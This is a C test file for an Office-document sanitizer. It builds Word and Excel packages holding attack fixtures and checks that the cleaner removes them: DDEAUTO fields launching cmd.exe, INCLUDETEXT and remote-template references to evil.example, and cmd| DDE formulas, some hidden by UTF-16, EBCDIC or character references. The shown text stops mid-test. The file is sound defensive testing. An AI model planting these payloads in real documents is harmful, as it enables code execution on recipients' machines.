/*
 * test_convert_ooxml.c - the OOXML cleaner on packages built here with
 * libzip in memory: a macro-enabled Word file with DDE fields and a
 * remote template, an Excel 4.0 macro sheet with external links, a
 * clean pptx that must come out unchanged, and hostile zips (path
 * traversal, entity bombs, size lies, bombs, encryption).  When
 * LibreOffice is installed it must open the cleaned docx.
 */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <iconv.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <sys/stat.h>

#include <zip.h>
#include <libxml/parser.h>
#include <libxml/tree.h>

#include "../../convert/convert.h"

struct ent {
	const char *name;
	const char *data;
	size_t	 len;		/* 0: strlen(data) */
};

#define CT_HEAD "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n" \
	"<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">" \
	"<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>" \
	"<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
#define RELS_HEAD "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n" \
	"<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
#define RT "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
#define OD "application/vnd.openxmlformats-officedocument."
#define W_NS "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" " \
	"xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\""
#define X_NS "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" " \
	"xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\""

static struct convert_opts
opts(void)
{
	struct convert_opts o;

	memset(&o, 0, sizeof(o));
	o.max_members = 1000;
	o.max_total = (size_t)100 << 20;
	o.max_ratio = 100;
	return o;
}

/* A zip of the entries, made in memory; caller frees. */
static unsigned char *
make_zip(const struct ent *e, size_t n, size_t *lenp)
{
	zip_error_t ze;
	zip_source_t *src, *s;
	zip_t *za;
	zip_stat_t st;
	unsigned char *buf;
	size_t i;

	zip_error_init(&ze);
	src = zip_source_buffer_create(NULL, 0, 0, &ze);
	assert_non_null(src);
	za = zip_open_from_source(src, ZIP_TRUNCATE, &ze);
	assert_non_null(za);
	zip_source_keep(src);
	for (i = 0; i < n; i++) {
		s = zip_source_buffer(za, e[i].data,
		    e[i].len ? e[i].len : strlen(e[i].data), 0);
		assert_non_null(s);
		assert_true(zip_file_add(za, e[i].name, s, 0) >= 0);
	}
	assert_int_equal(zip_close(za), 0);
	assert_int_equal(zip_source_stat(src, &st), 0);
	buf = malloc(st.size + 1);
	assert_int_equal(zip_source_open(src), 0);
	assert_int_equal(zip_source_read(src, buf, st.size), (zip_int64_t)st.size);
	zip_source_close(src);
	zip_source_free(src);
	zip_error_fini(&ze);
	*lenp = st.size;
	return buf;
}

static int
clean(const unsigned char *in, size_t len, struct convert_opts *o,
    struct mugai_buf *out, char *why, size_t whylen)
{
	mugai_buf_init(out, 0);
	return convert_ooxml(in, len, o, out, why, whylen);
}

static int
clean_ents(const struct ent *e, size_t n, struct mugai_buf *out)
{
	struct convert_opts o = opts();
	unsigned char *z;
	size_t len;
	char why[256];
	int rc;

	z = make_zip(e, n, &len);
	rc = clean(z, len, &o, out, why, sizeof(why));
	if (rc != 0)
		print_message("refused: %s\n", why);
	free(z);
	return rc;
}

static zip_t *
open_out(const struct mugai_buf *out)
{
	zip_error_t ze;
	zip_source_t *src;
	zip_t *za;

	zip_error_init(&ze);
	src = zip_source_buffer_create(out->data, out->len, 0, &ze);
	assert_non_null(src);
	za = zip_open_from_source(src, ZIP_CHECKCONS | ZIP_RDONLY, &ze);
	assert_non_null(za);
	zip_error_fini(&ze);
	return za;
}

/* The part's bytes (NUL terminated, caller frees) or NULL if absent. */
static char *
part(zip_t *za, const char *name, size_t *lenp)
{
	zip_stat_t st;
	zip_file_t *zf;
	char *buf;

	if (zip_stat(za, name, 0, &st) != 0)
		return NULL;
	buf = malloc(st.size + 1);
	zf = zip_fopen(za, name, 0);
	assert_non_null(zf);
	assert_int_equal(zip_fread(zf, buf, st.size), (zip_int64_t)st.size);
	zip_fclose(zf);
	buf[st.size] = '\0';
	if (lenp != NULL)
		*lenp = st.size;
	return buf;
}

static int
has(zip_t *za, const char *name)
{
	return zip_name_locate(za, name, ZIP_FL_NOCASE) >= 0;
}

static void
assert_part_has(zip_t *za, const char *name, const char *needle, int want)
{
	char *p = part(za, name, NULL);

	assert_non_null(p);
	if ((strstr(p, needle) != NULL) != want)
		fail_msg("%s: \"%s\" %s", name, needle,
		    want ? "missing" : "still there");
	free(p);
}

/* The copy's part name is want[0..len), byte for byte. */
static void
assert_part_is(const struct mugai_buf *out, const char *name,
    const char *want, size_t len)
{
	zip_t *za = open_out(out);
	size_t got;
	char *p = part(za, name, &got);

	assert_non_null(p);
	assert_int_equal(got, len);
	assert_memory_equal(p, want, len);
	free(p);
	zip_discard(za);
}

static const char *
attr(xmlNode *n, const char *name)
{
	xmlAttr *a;

	for (a = n->properties; a != NULL; a = a->next)
		if (strcmp((const char *)a->name, name) == 0 && a->children)
			return (const char *)a->children->content;
	return NULL;
}

/* Every internal target and every Override names a part in the zip. */
static void
assert_no_dangling(zip_t *za)
{
	zip_int64_t i, n = zip_get_num_entries(za, 0);
	char dir[512], path[1024], *data, *p, *q;
	const char *name, *t;
	xmlDocPtr doc;
	xmlNode *r;
	size_t len;

	for (i = 0; i < n; i++) {
		name = zip_get_name(za, (zip_uint64_t)i, 0);
		if (strlen(name) < 5 || strcmp(name + strlen(name) - 5, ".rels") != 0)
			continue;
		data = part(za, name, &len);
		doc = xmlReadMemory(data, (int)len, NULL, NULL, XML_PARSE_NONET);
		assert_non_null(doc);
		/* word/_rels/document.xml.rels: targets are from word/ */
		snprintf(dir, sizeof(dir), "%s", name);
		*strstr(dir, "_rels/") = '\0';
		for (r = xmlDocGetRootElement(doc)->children; r; r = r->next) {
			if (r->type != XML_ELEMENT_NODE)
				continue;
			t = attr(r, "TargetMode");
			if (t != NULL && strcmp(t, "External") == 0)
				continue;
			t = attr(r, "Target");
			if (t[0] == '/')
				snprintf(path, sizeof(path), "%s", t + 1);
			else
				snprintf(path, sizeof(path), "%s%s", dir, t);
			/* one level of "dir/../" is all the fixtures use */
			while ((p = strstr(path, "/../")) != NULL) {
				for (q = p - 1; q > path && *q != '/'; q--)
					;
				memmove(q == path ? q : q + 1, p + 4,
				    strlen(p + 4) + 1);
			}
			if (!has(za, path))
				fail_msg("%s: %s leads to missing %s", name,
				    attr(r, "Id"), path);
		}
		xmlFreeDoc(doc);
		free(data);
	}
	data = part(za, "[Content_Types].xml", &len);
	assert_non_null(data);
	doc = xmlReadMemory(data, (int)len, NULL, NULL, XML_PARSE_NONET);
	assert_non_null(doc);
	for (r = xmlDocGetRootElement(doc)->children; r; r = r->next)
		if (r->type == XML_ELEMENT_NODE &&
		    strcmp((const char *)r->name, "Override") == 0 &&
		    !has(za, attr(r, "PartName") + 1))
			fail_msg("Override for missing %s", attr(r, "PartName"));
	xmlFreeDoc(doc);
	free(data);
}

/* --- docm ------------------------------------------------------------ */

static const char docm_ct[] = CT_HEAD
	"<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>"
	"<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/>"
	"<Override PartName=\"/word/vbaData.xml\" ContentType=\"application/vnd.ms-word.vbaData+xml\"/>"
	"<Override PartName=\"/word/settings.xml\" ContentType=\"" OD "wordprocessingml.settings+xml\"/>"
	"</Types>";
static const char docm_rels[] = RELS_HEAD
	"<Relationship Id=\"rId1\" Type=\"" RT "officeDocument\" Target=\"word/document.xml\"/>"
	"</Relationships>";
static const char docm_doc_rels[] = RELS_HEAD
	"<Relationship Id=\"rId1\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"vbaProject.bin\"/>"
	"<Relationship Id=\"rId2\" Type=\"" RT "settings\" Target=\"settings.xml\"/>"
	"<Relationship Id=\"rId3\" Type=\"" RT "hyperlink\" Target=\"https://www.example.com/\" TargetMode=\"External\"/>"
	"<Relationship Id=\"rId4\" Type=\"" RT "attachedTemplate\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/>"
	"</Relationships>";
static const char docm_vba_rels[] = RELS_HEAD
	"<Relationship Id=\"rId1\" Type=\"http://schemas.microsoft.com/office/2006/relationships/wordVbaData\" Target=\"vbaData.xml\"/>"
	"</Relationships>";
static const char docm_settings_rels[] = RELS_HEAD
	"<Relationship Id=\"rId1\" Type=\"" RT "attachedTemplate\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/>"
	"</Relationships>";
static const char docm_settings[] =
	"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
	"<w:settings " W_NS "><w:attachedTemplate r:id=\"rId1\"/>"
	"<w:defaultTabStop w:val=\"720\"/></w:settings>";
/* DDEAUTO split over two instrText runs; INCLUDETEXT as a fldSimple. */
static const char docm_doc[] =
	"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
	"<w:document " W_NS "><w:body>"
	"<w:p><w:r><w:t>本文テキスト</w:t></w:r></w:p>"
	"<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
	"<w:r><w:instrText xml:space=\"preserve\"> DDE</w:instrText></w:r>"
	"<w:r><w:instrText xml:space=\"preserve\">AUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/c calc\"</w:instrText></w:r>"
	"<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>"
	"<w:r><w:t>dde-result</w:t></w:r>"
	"<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"
	"<w:p><w:fldSimple w:instr=\" INCLUDETEXT &quot;http://evil.example/x.docx&quot; \">"
	"<w:r><w:t>include-result</w:t></w:r></w:fldSimple></w:p>"
	"<w:p><w:fldSimple w:instr=\" PAGE \"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>"
	"<w:p><w:hyperlink r:id=\"rId3\"><w:r><w:t>link</w:t></w:r></w:hyperlink></w:p>"
	"<w:sectPr/></w:body></w:document>";
static const char vba_data[] =
	"<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
	"<wne:vbaSuppData xmlns:wne=\"http://schemas.microsoft.com/office/word/2006/wordml\"/>";

static const struct ent docm[] = {
	{ "[Content_Types].xml", docm_ct, 0 },
	{ "_rels/.rels", docm_rels, 0 },
	{ "word/document.xml", docm_doc, 0 },
	{ "word/_rels/document.xml.rels", docm_doc_rels, 0 },
	{ "word/vbaProject.bin", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 not really", 0 },
	{ "word/_rels/vbaProject.bin.rels", docm_vba_rels, 0 },
	{ "word/vbaData.xml", vba_data, 0 },
	{ "word/settings.xml", docm_settings, 0 },
	{ "word/_rels/settings.xml.rels", docm_settings_rels, 0 },
};
#define N(a)	(sizeof(a) / sizeof(a[0]))

static void
test_docm(void **state)
{
	struct mugai_buf out;
	zip_t *za;

	(void)state;
	assert_int_equal(clean_ents(docm, N(docm), &out), 0);
	za = open_out(&out);
	assert_false(has(za, "word/vbaProject.bin"));
	assert_false(has(za, "word/_rels/vbaProject.bin.rels"));
	assert_false(has(za, "word/vbaData.xml"));
	assert_part_has(za, "word/_rels/document.xml.rels", "attachedTemplate", 0);
	assert_part_has(za, "word/_rels/document.xml.rels", "vbaProject", 0);
	assert_part_has(za, "word/_rels/document.xml.rels",
	    "https://www.example.com/", 1);
	assert_part_has(za, "word/_rels/settings.xml.rels", "attachedTemplate", 0);
	assert_part_has(za, "word/settings.xml", "attachedTemplate", 0);
	assert_part_has(za, "word/settings.xml", "defaultTabStop", 1);
	assert_part_has(za, "[Content_Types].xml", "macroEnabled", 0);
	assert_part_has(za, "[Content_Types].xml", "Extension=\"bin\"", 0);
	assert_part_has(za, "[Content_Types].xml", "vbaData", 0);
	assert_part_has(za, "[Content_Types].xml",
	    OD "wordprocessingml.document.main+xml", 1);
	assert_part_has(za, "word/document.xml", "DDE", 0);
	assert_part_has(za, "word/document.xml", "INCLUDETEXT", 0);
	assert_part_has(za, "word/document.xml", "fldChar", 0);
	assert_part_has(za, "word/document.xml", "本文テキスト", 1);
	assert_part_has(za, "word/document.xml", "dde-result", 1);
	assert_part_has(za, "word/document.xml", "include-result", 1);
	assert_part_has(za, "word/document.xml", "PAGE", 1);
	assert_part_has(za, "word/document.xml", "r:id=\"rId3\"", 1);
	assert_no_dangling(za);
	zip_discard(za);
	mugai_buf_free(&out);
}

/* A field whose instruction is made by a nested field goes as well. */
static void
test_docm_nested_field(void **state)
{
	static const char doc[] =
	    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
	    "<w:document " W_NS "><w:body><w:p>"
	    "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
	    "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
	    "<w:r><w:instrText>QUOTE 68 68 69 65 85 84 79</w:instrText></w:r>"
	    "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>"
	    "<w:r><w:t>QUOTED</w:t></w:r>"
	    "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
	    "<w:r><w:instrText> c:\\\\x.exe</w:instrText></w:r>"
	    "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>"
	    "<w:r><w:t>outer-result</w:t></w:r>"
	    "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
	    "</w:p></w:body></w:document>";
	struct ent e[N(docm)];
	struct mugai_buf out;
	zip_t *za;

	(void)state;
	memcpy(e, docm, sizeof(e));
	e[2].data = doc;
	assert_int_equal(clean_ents(e, N(e), &out), 0);
	za = open_out(&out);
	assert_part_has(za, "word/document.xml", "QUOTE", 0);
	assert_part_has(za, "word/document.xml", "x.exe", 0);
	assert_part_has(za, "word/document.xml", "fldChar", 0);
	assert_part_has(za, "word/document.xml", "outer-result", 1);
	zip_discard(za);
	mugai_buf_free(&out);
}

/* --- xlsm ------------------------------------------------------------ */

static const char xlsm_ct[] = CT_HEAD
	"<Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.ms-excel.sheet.macroEnabled.main+xml\"/>"
	"<Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\"" OD "spreadsheetml.worksheet+xml\"/>"
	"<Override PartName=\"/xl/macrosheets/sheet2.xml\" ContentType=\"application/vnd.ms-excel.macrosheet+xml\"/>"
	"<Override PartName=\"/xl/externalLinks/externalLink1.xml\" ContentType=\"" OD "spreadsheetml.externalLink+xml\"/>"
	"<Override PartName=\"/xl/calcChain.xml\" ContentType=\"" OD "spreadsheetml.calcChain+xml\"/>"
	"</Types>";
static const char xlsm_rels[] = RELS_HEAD
	"<Relationship Id=\"rId1\" Type=\"" RT "officeDocument\" Target=\"xl/workbook.xml\"/>"
	"</Relationships>";
static const char xlsm_wb_rels[] = RELS_HEAD
	"<Relationship Id=\"rId1\" Type=\"" RT "worksheet\" Target=\"worksheets/sheet1.xml\"/>"
	"<Relationship Id=\"rId2\" Type=\"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet\" Target=\"macrosheets/sheet2.xml\"/>"
	"<Relationship Id=\"rId3\" Type=\"" RT "externalLink\" Target=\"externalLinks/externalLink1.xml\"/>"
	"<Relationship Id=\"rId4\" Type=\"" RT "calcChain\" Target=\"calcChain.xml\"/>"
	"</Relationships>";
static const char xlsm_wb[] =
	"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
	"<workbook " X_NS "><bookViews><workbookView activeTab=\"1\"/></bookViews>"
	"<sheets><sheet name=\"Sheet1\" sheetId=\"1\" r:id=\"rId1\"/>"
	"<sheet name=\"Macro1\" sheetId=\"2\" state=\"hidden\" r:id=\"rId2\"/></sheets>"
	"<externalReferences><externalReference r:id=\"rId3\"/></externalReferences>"
	"<definedNames><definedName name=\"_xlnm.Auto_Open\">Macro1!$A$1</definedName>"
	"<definedName name=\"Keep\">Sheet1!$A$1</definedName>"
	"<definedName name=\"Local\" localSheetId=\"1\">Sheet1!$A$2</definedName>"
	"</definedNames></workbook>";
static const char xlsm_sheet1[] =
	"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
	"<worksheet " X_NS "><sheetData>"
	"<row r=\"1\"><c r=\"A1\"><v>1</v></c></row>"
	"<row r=\"2\"><c r=\"A2\"><f>[1]Sheet1!A1</f><v>5</v></c></row>"
	"<row r=\"3\"><c r=\"A3\"><f>SUM(A1:A1)</f><v>1</v></c></row>"
	"<row r=\"4\"><c r=\"A4\"><f>cmd|'/c calc'!A0</f><v>0</v></c></row>"
	"</sheetData></worksheet>";
static const char xlsm_macro[] =
	"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
	"<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\">"
	"<xm:sheetData/></xm:macrosheet>";
static const char xlsm_ext[] =
	"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
	"<externalLink " X_NS "><externalBook r:id=\"rId1\"/></externalLink>";
static const char xlsm_ext_rels[] = RELS_HEAD
	"<Relationship Id=\"rId1\" Type=\"" RT "externalLinkPath\" Target=\"file:///C:/other.xlsx\" TargetMode=\"External\"/>"
	"</Relationships>";
static const char xlsm_calc[] =
	"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
	"<calcChain " X_NS "><c r=\"A2\" i=\"1\"/></calcChain>";

/*
 * A docx of three parts, word/document.xml being len bytes of doc
 * (no relationship of its own goes, so nothing else parses it first).
 */
static int
docx_doc_is(const char *doc, size_t len, struct mugai_buf *out)
{
	static const char ct[] = CT_HEAD "<Override PartName=\"/word/"
	    "document.xml\" ContentType=\"" OD "wordprocessingml.document."
	    "main+xml\"/></Types>";
	struct ent e[] = {
		{ "[Content_Types].xml", ct, 0 },
		{ "_rels/.rels", docm_rels, 0 },
		{ "word/document.xml", doc, len },
	};

	return clean_ents(e, N(e), out);
}

/* s (ASCII) as UTF-16LE with a byte order mark into out; its length. */
static size_t
utf16(const char *s, char *out)
{
	size_t i;

	out[0] = (char)0xff;
	out[1] = (char)0xfe;
	for (i = 0; s[i] != '\0'; i++) {
		out[2 + 2 * i] = s[i];
		out[3 + 2 * i] = 0;
	}
	return 2 + 2 * i;
}

/*
 * A Word part is looked at as a tree only when its bytes spell a field
 * element's name (fldSimple, fldChar) or its parser met one: by the
 * names libxml2 decoded, so a part in UTF-16 (no such bytes) is cut all
 * the same, and one with another prefix for the Word namespace too; a
 * part stopped at its first field is still refused when broken further
 * on; and a part without one comes out byte for byte.
 */
static void
test_fields_found_by_name(void **state)
{
	static const char u8[] =
	    "<?xml version=\"1.0\" encoding=\"UTF-16\"?>"
	    "<w:document " W_NS "><w:body><w:p>"
	    "<w:fldSimple w:instr=\" INCLUDETEXT x.docx \"><w:r><w:t>utf16-result"
	    "</w:t></w:r></w:fldSimple></w:p></w:body></w:document>";
	static const char prefixed[] =
	    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
	    "<x:document xmlns:x=\"http://schemas.openxmlformats.org/"
	    "wordprocessingml/2006/main\"><x:body><x:p><x:r>"
	    "<x:fldChar x:fldCharType=\"begin\"/></x:r><x:r><x:instrText>"
	    " DDEAUTO cmd \"/c calc\"</x:instrText></x:r><x:r><x:fldChar "
	    "x:fldCharType=\"separate\"/></x:r><x:r><x:t>x-result</x:t></x:r>"
	    "<x:r><x:fldChar x:fldCharType=\"end\"/></x:r></x:p></x:body>"
	    "</x:document>";
	static const char broken_after[] =
	    "<?xml version=\"1.0\" encoding=\"UTF-16\"?>"
	    "<w:document " W_NS "><w:body><w:p><w:fldSimple w:instr=\" PAGE \"/>"
	    "</w:p></w:body>";
	static const char plain[] =
	    "<?xml version='1.0' encoding='UTF-8'?>\n"
	    "<w:document " W_NS "><w:body><w:p><w:r><w:t xml:space='preserve'>"
	    " no field here &amp; <![CDATA[fld]]> </w:t></w:r></w:p>"
	    "<w:sectPr/></w:body></w:document>";
	char u16[1024];
	struct mugai_buf out;
	size_t len;
	zip_t *za;

	(void)state;
	len = utf16(u8, u16);
	assert_int_equal(docx_doc_is(u16, len, &out), 0);
	za = open_out(&out);
	assert_part_has(za, "word/document.xml", "INCLUDETEXT", 0);
	assert_part_has(za, "word/document.xml", "utf16-result", 1);
	zip_discard(za);
	mugai_buf_free(&out);

	assert_int_equal(docx_doc_is(prefixed, strlen(prefixed), &out), 0);
	za = open_out(&out);
	assert_part_has(za, "word/document.xml", "DDEAUTO", 0);
	assert_part_has(za, "word/document.xml", "x-result", 1);
	zip_discard(za);
	mugai_buf_free(&out);

	len = utf16(broken_after, u16);
	assert_int_equal(docx_doc_is(u16, len, &out),
	    MUGAI_CONVERT_EXIT_BAD_INPUT);
	mugai_buf_free(&out);

	assert_int_equal(docx_doc_is(plain, strlen(plain), &out), 0);
	assert_part_is(&out, "word/document.xml", plain, strlen(plain));
	mugai_buf_free(&out);
}

static void
test_xlsm(void **state)
{
	static const struct ent e[] = {
		{ "[Content_Types].xml", xlsm_ct, 0 },
		{ "_rels/.rels", xlsm_rels, 0 },
		{ "xl/workbook.xml", xlsm_wb, 0 },
		{ "xl/_rels/workbook.xml.rels", xlsm_wb_rels, 0 },
		{ "xl/worksheets/sheet1.xml", xlsm_sheet1, 0 },
		{ "xl/macrosheets/sheet2.xml", xlsm_macro, 0 },
		{ "xl/externalLinks/externalLink1.xml", xlsm_ext, 0 },
		{ "xl/externalLinks/_rels/externalLink1.xml.rels", xlsm_ext_rels, 0 },
		{ "xl/calcChain.xml", xlsm_calc, 0 },
	};
	struct mugai_buf out;
	zip_t *za;

	(void)state;
	assert_int_equal(clean_ents(e, N(e), &out), 0);
	za = open_out(&out);
	assert_false(has(za, "xl/macrosheets/sheet2.xml"));
	assert_false(has(za, "xl/externalLinks/externalLink1.xml"));
	assert_false(has(za, "xl/externalLinks/_rels/externalLink1.xml.rels"));
	assert_false(has(za, "xl/calcChain.xml"));
	assert_part_has(za, "xl/_rels/workbook.xml.rels", "macrosheets", 0);
	assert_part_has(za, "xl/_rels/workbook.xml.rels", "externalLink", 0);
	assert_part_has(za, "xl/_rels/workbook.xml.rels", "worksheets/sheet1.xml", 1);
	assert_part_has(za, "[Content_Types].xml", "macrosheet", 0);
	assert_part_has(za, "[Content_Types].xml", "externalLink", 0);
	assert_part_has(za, "[Content_Types].xml", "macroEnabled", 0);
	assert_part_has(za, "[Content_Types].xml",
	    OD "spreadsheetml.sheet.main+xml", 1);
	assert_part_has(za, "xl/workbook.xml", "Macro1", 0);
	assert_part_has(za, "xl/workbook.xml", "externalReference", 0);
	assert_part_has(za, "xl/workbook.xml", "Auto_Open", 0);
	assert_part_has(za, "xl/workbook.xml", "activeTab", 0);
	assert_part_has(za, "xl/workbook.xml", "name=\"Keep\"", 1);
	assert_part_has(za, "xl/workbook.xml", "name=\"Local\"", 0);
	assert_part_has(za, "xl/worksheets/sheet1.xml", "SUM(A1:A1)", 1);
	assert_part_has(za, "xl/worksheets/sheet1.xml", "[1]", 0);
	assert_part_has(za, "xl/worksheets/sheet1.xml", "cmd|", 0);
	assert_part_has(za, "xl/worksheets/sheet1.xml", "<v>5</v>", 1);
	assert_no_dangling(za);
	zip_discard(za);
	mugai_buf_free(&out);
}

/*
 * An xlsx of one sheet, xl/worksheets/sheet1.xml being len bytes of
 * sheet; with ext, the workbook links another workbook (the link goes).
 */
static int
xlsx_sheet_is(const char *sheet, size_t len, int ext, struct mugai_buf *out)
{
	static const char ct[] = CT_HEAD
	    "<Override PartName=\"/xl/workbook.xml\" ContentType=\"" OD
	    "spreadsheetml.sheet.main+xml\"/>"
	    "<Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\""
	    OD "spreadsheetml.worksheet+xml\"/>"
	    "<Override PartName=\"/xl/externalLinks/externalLink1.xml\" "
	    "ContentType=\"" OD "spreadsheetml.externalLink+xml\"/></Types>";
	static const char wb[] =
	    "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
	    "<workbook " X_NS "><sheets><sheet name=\"Sheet1\" sheetId=\"1\" "
	    "r:id=\"rId1\"/></sheets></workbook>";
	static const char wb_rels[] = RELS_HEAD
	    "<Relationship Id=\"rId1\" Type=\"" RT "worksheet\" "
	    "Target=\"worksheets/sheet1.xml\"/></Relationships>";
	struct ent e[] = {
		{ "[Content_Types].xml", ct, 0 },
		{ "_rels/.rels", xlsm_rels, 0 },
		{ "xl/workbook.xml", wb, 0 },
		{ "xl/_rels/workbook.xml.rels", ext ? xlsm_wb_rels : wb_rels, 0 },
		{ "xl/worksheets/sheet1.xml", sheet, len },
		{ "xl/externalLinks/externalLink1.xml", xlsm_ext, 0 },
	};

	return clean_ents(e, N(e) - !ext, out);
}

/* s (UTF-8) as IBM037 (EBCDIC) into out, by iconv; its length. */
static size_t
to_ebcdic(const char *s, char *out, size_t size)
{
	iconv_t cd = iconv_open("IBM037", "UTF-8");
	char *in = (char *)s, *o = out;
	size_t inleft = strlen(s), left = size;

	assert_true(cd != (iconv_t)-1);
	assert_int_equal(iconv(cd, &in, &inleft, &o, &left), 0);
	iconv_close(cd);
	return size - left;
}

/* The sheet of out holds cut's value but not its formula (what). */
static void
assert_formula_cut(struct mugai_buf *out, const char *what)
{
	zip_t *za = open_out(out);

	assert_part_has(za, "xl/worksheets/sheet1.xml", what, 0);
	assert_part_has(za, "xl/worksheets/sheet1.xml", "v>7</", 1);
	assert_part_has(za, "xl/worksheets/sheet1.xml", "SUM(A1:A1)", 1);
	zip_discard(za);
	mugai_buf_free(out);
}

/*
 * A sheet is looked at as a tree when its bytes hold '|' (or, with its
 * links gone, '['), or when its parser met one in the decoded text of
 * a formula (f, any prefix, its text after a child element too): a
 * character reference (&#124;), UTF-16 or EBCDIC hides the byte, the
 * formula is cut all the same; a sheet stopped at
 * such a formula is still refused when broken further on; a sheet
 * whose formulas are harmless comes out byte for byte, '|' in a cell's
 * text (not a formula) and all.
 */
static void
test_formulas_found_by_text(void **state)
{
#define SHEET_HEAD "<?xml version=\"1.0\" encoding=\"UTF-8\"?>" \
	"<worksheet " X_NS "><sheetData><row r=\"1\"><c r=\"A1\"><v>1</v></c>" \
	"<c r=\"B1\"><f>SUM(A1:A1)</f><v>1</v></c></row>"
	static const char charref[] = SHEET_HEAD
	    "<row r=\"2\"><c r=\"A2\"><f><i/>cmd&#124;'/c calc'!A0</f><v>7</v>"
	    "</c></row></sheetData></worksheet>";
	static const char u16_head[] =
	    "<?xml version=\"1.0\" encoding=\"UTF-16\"?>"
	    "<worksheet " X_NS "><sheetData><row r=\"1\"><c r=\"A1\"><v>1</v></c>"
	    "<c r=\"B1\"><f>SUM(A1:A1)</f><v>1</v></c></row>"
	    "<row r=\"2\"><c r=\"A2\"><f>cmd&#x7C;'/c calc'!A0</f><v>7</v></c>"
	    "</row></sheetData>";
	static const char prefixed[] =
	    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
	    "<x:worksheet xmlns:x=\"http://schemas.openxmlformats.org/"
	    "spreadsheetml/2006/main\"><x:sheetData><x:row r=\"1\"><x:c r=\"B1\">"
	    "<x:f>SUM(A1:A1)</x:f><x:v>1</x:v></x:c></x:row><x:row r=\"2\">"
	    "<x:c r=\"A2\"><x:f>cmd&#124;'/c calc'!A0</x:f>"
	    "<x:v>7</x:v></x:c></x:row></x:sheetData></x:worksheet>";
	/* In EBCDIC '|' is byte 0x4f (and no byte is 0x7c here). */
	static const char ebcdic[] =
	    "<?xml version=\"1.0\" encoding=\"IBM037\"?>"
	    "<s:worksheet xmlns:s=\"http://schemas.openxmlformats.org/"
	    "spreadsheetml/2006/main\"><s:sheetData><s:row r=\"1\"><s:c r=\"B1\">"
	    "<s:f>SUM(A1:A1)</s:f><s:v>1</s:v></s:c></s:row><s:row r=\"2\">"
	    "<s:c r=\"A2\"><s:f><![CDATA[cmd|'/c calc'!A0]]></s:f>"
	    "<s:v>7</s:v></s:c></s:row></s:sheetData></s:worksheet>";
	static const char other_book[] = SHEET_HEAD
	    "<row r=\"2\"><c r=\"A2\"><f>&#91;1]Sheet1!A1</f><v>7</v></c>"
	    "</row></sheetData></worksheet>";
	static const char plain[] = SHEET_HEAD
	    "<row r=\"2\"><c r=\"A2\" t=\"inlineStr\"><is><t>a&#124;b [1]</t>"
	    "</is></c><c r=\"B2\"><f>\"x&#124;y\"&amp;A1</f><v>7</v></c></row>"
	    "</sheetData></worksheet>";
	char u16[2048];
	char buf[1024];
	struct mugai_buf out;
	size_t len;

	(void)state;
	assert_int_equal(xlsx_sheet_is(charref, strlen(charref), 0, &out), 0);
	assert_formula_cut(&out, "calc");

	snprintf(buf, sizeof(buf), "%s</worksheet>", u16_head);
	len = utf16(buf, u16);
	assert_int_equal(xlsx_sheet_is(u16, len, 0, &out), 0);
	assert_formula_cut(&out, "calc");

	assert_int_equal(xlsx_sheet_is(prefixed, strlen(prefixed), 0, &out), 0);
	assert_formula_cut(&out, "calc");

	len = to_ebcdic(ebcdic, u16, sizeof(u16));
	assert_null(memchr(u16, '|', len));
	assert_int_equal(xlsx_sheet_is(u16, len, 0, &out), 0);
	assert_formula_cut(&out, "calc");

	assert_int_equal(xlsx_sheet_is(other_book, strlen(other_book), 1,
	    &out), 0);
	assert_formula_cut(&out, "Sheet1!A1");

	/* Stopped at the formula, broken after it (no end tag): refused. */
	len = utf16(u16_head, u16);
